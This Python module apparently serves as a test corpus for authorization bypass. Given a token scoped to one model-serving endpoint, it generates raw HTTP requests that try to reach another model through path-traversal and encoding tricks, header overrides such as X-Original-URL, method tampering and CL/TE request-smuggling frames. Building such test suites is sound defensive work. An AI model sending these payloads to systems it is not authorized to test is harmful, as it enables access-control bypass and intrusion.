"""Requests by which somebody who may call one model tries to reach another one."""

from __future__ import annotations

from itertools import product
from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from collections.abc import Iterator

__all__ = ["attacks"]

_MINE, _THEIRS = "/v2/models/fraud/infer", "/v2/models/churn/infer"

# What servers decode, cut, merge or pass over, each in its own way.
_PARTS = (
    *("%0a", "%0d", "%0d%0a", "%00", "%09", "%20", "%7f", "%ff", "%250a", "%250d%250a", "%2500"),
    *("/", "//", "/./", "/../", "%2f", "%2F", "%5c", "\\", "%252f", "%255c", "%c0%af", "%ef%bc%8f", "%u002f"),
    *("%2e%2e%2f", "..%2f", "%2e%2e/", ".%2e/", "..%5c", "..;/", "..%00/", "%252e%252e%252f", "%c0%ae%c0%ae/"),
    *(";", "%3b", ";a=b", "?", "%3f", "#", "%23", "&", "%", "%zz", "%2", "*", "~", ":", "@", "+", "$", "|"),
    *("\x00", "\x01", "\t", "\x0b", "\r", "\x7f", "\x85", "\xa0", "\xff"),
    *(" ", " HTTP/1.1", "%20HTTP/1.1%0d%0aX:%20", "\r\nX: y", "\n"),
)
_PATHS = (
    "/v2/models/fraud/infer{0}",
    "/v2/models/fraud/infer{0}?a:%20b",
    "/v2/models/fraud/infer{0}" + _THEIRS,
    "/v2/models/fraud/infer?{0}" + _THEIRS,
    "/v2/models/churn/infer{0}" + _MINE,
    "/v2/models/churn/infer{0}",
    "/v2/models/churn{0}infer",
    "/v2/models/{0}churn/infer",
    "/v2/models/fraud{0}../churn/infer",
    "/v2/models/fraud/versions/1{0}..{0}..{0}..{0}churn/infer",
    "/v2/models/fraud/versions/{0}/infer",
    "{0}/v2/models/churn/infer",
)
_TARGETS = (
    "http://127.0.0.1" + _THEIRS,
    "http://other.example" + _THEIRS,
    "http://user@other.example" + _MINE + "/../../churn/infer",
    "https://127.0.0.1" + _THEIRS,
    "HTTP://127.0.0.1" + _MINE + "%0a",
    "file://" + _THEIRS,
    "//other.example" + _THEIRS,
    "*",
    "other.example:443",
    "v2/models/churn/infer",
    "",
    "/v2/models/churn%2finfer",
    "/%76%32/models/%63hurn/infer",
    "/v2/models/fraud/infer" + "/" * 4000 + "../churn/infer",
)
_METHODS = ("post", "Post", "PoSt", "POST\x00", "GET", "HEAD", "PUT", "TRACE", "CONNECT", "OPTIONS", "PRI", "X" * 300)
_HEADERS = (
    f"X-Original-URL: {_THEIRS}",
    f"X-Rewrite-URL: {_THEIRS}",
    f"X-Original-URI: {_THEIRS}",
    f"X-Envoy-Original-Path: {_THEIRS}",
    f"X-Forwarded-Uri: {_THEIRS}",
    "X-Forwarded-Prefix: /v2/models/churn",
    "X-HTTP-Method-Override: PUT",
    "X-Auth-Request-Groups: churn:predict",
    "X-Forwarded-Groups: churn:predict",
    "Connection: Authorization",
    "Connection: close, Host",
    "Host: churn",
    f":path: {_THEIRS}",
    "Cookie: _oauth2_proxy=x",
)
_INNER = f"POST {_THEIRS} HTTP/1.1\r\nHost: x\r\nContent-Length: 0\r\n\r\n"
_BODY = f"0\r\n\r\n{_INNER}"
_LENGTH = f"Content-Length: {len(_BODY)}\r\n"
# How a body begins and ends, as one server in a chain may read it and the next one may not.
_FRAMES = (
    f"{_LENGTH}Transfer-Encoding: chunked\r\n\r\n{_BODY}",
    f"Transfer-Encoding: chunked\r\n{_LENGTH}\r\n{_BODY}",
    f"{_LENGTH}Transfer-Encoding: xchunked\r\n\r\n{_BODY}",
    f"{_LENGTH}Transfer-Encoding : chunked\r\n\r\n{_BODY}",
    f"{_LENGTH} Transfer-Encoding: chunked\r\n\r\n{_BODY}",
    f"{_LENGTH}Transfer-Encoding:\x0bchunked\r\n\r\n{_BODY}",
    f"{_LENGTH}Transfer-Encoding: chunked, identity\r\n\r\n{_BODY}",
    f"{_LENGTH}Transfer_Encoding: chunked\r\n\r\n{_BODY}",
    f"Content-Length: 0\r\n{_LENGTH}\r\n{_BODY}",
    f"{_LENGTH}Content-Length: 0\r\n\r\n{_BODY}",
    f"Content-Length: 0, {len(_BODY)}\r\n\r\n{_BODY}",
    f"Content-Length: +0\r\n\r\n{_BODY}",
    f"Content-Length: 0x0\r\n\r\n{_BODY}",
    f"Content-Length: 0\r\n\r\n{_INNER}",
    f"\r\n{_INNER}",
    f"Transfer-Encoding: chunked\r\n\r\n0;x=\n\r\n\r\n{_INNER}",
    f"Transfer-Encoding: chunked\r\n\r\n1\n\nx\r\n{_BODY}",
    f"Upgrade: h2c\r\nConnection: Upgrade, HTTP2-Settings\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\n\r\n{_INNER}",
    f"Upgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Version: 13\r\n\r\n{_INNER}",
    f"Expect: 100-continue\r\n{_LENGTH}\r\n{_BODY}",
)


def attacks(token: str) -> Iterator[bytes]:
    """Yield requests with a token for the action `predict` of the model `fraud`, each for a connection of its own.

    The token is good for `POST /v2/models/fraud/infer` and its versions; all try to be read as
    `POST /v2/models/churn/infer`, by the gateway or by the server behind it.

    Args:
        token: The access token.
    """
    bearer = f"Authorization: Bearer {token}"
    for path, part in product(_PATHS, _PARTS):
        yield _request("POST", path.format(part), bearer)
    for target in _TARGETS:
        yield _request("POST", target, bearer)
    for method, target in product(_METHODS, (_MINE, _THEIRS)):
        yield _request(method, target, bearer)
    for header, target in product(_HEADERS, (_MINE, _THEIRS)):
        yield _request("POST", target, bearer, header)
        yield _request("POST", target, header, bearer)
    for version in ("HTTP/0.9", "HTTP/1.0", "HTTP/2.0", "HTTP/1.2", "HTTP/1.10", ""):
        yield _request("POST", _THEIRS, bearer, version=version)
    for header in (f"Authorization: bearer {token}x", f"authorization:{token}", f"Authorization: Bearer {token},x"):
        yield _request("POST", _THEIRS, header)
        yield _request("POST", _THEIRS, header, bearer)
    start = f"POST {_MINE} HTTP/1.1\r\nHost: x\r\n{bearer}\r\n"
    for frame in _FRAMES:
        yield (start + frame).encode("latin-1")


def _request(method: str, target: str, *headers: str, version: str = "HTTP/1.1") -> bytes:
    lines = (f"{method} {target} {version}".rstrip(" "), "Host: x", *headers, "Connection: close", "Content-Length: 0")
    return ("\r\n".join(lines) + "\r\n\r\n").encode("latin-1")
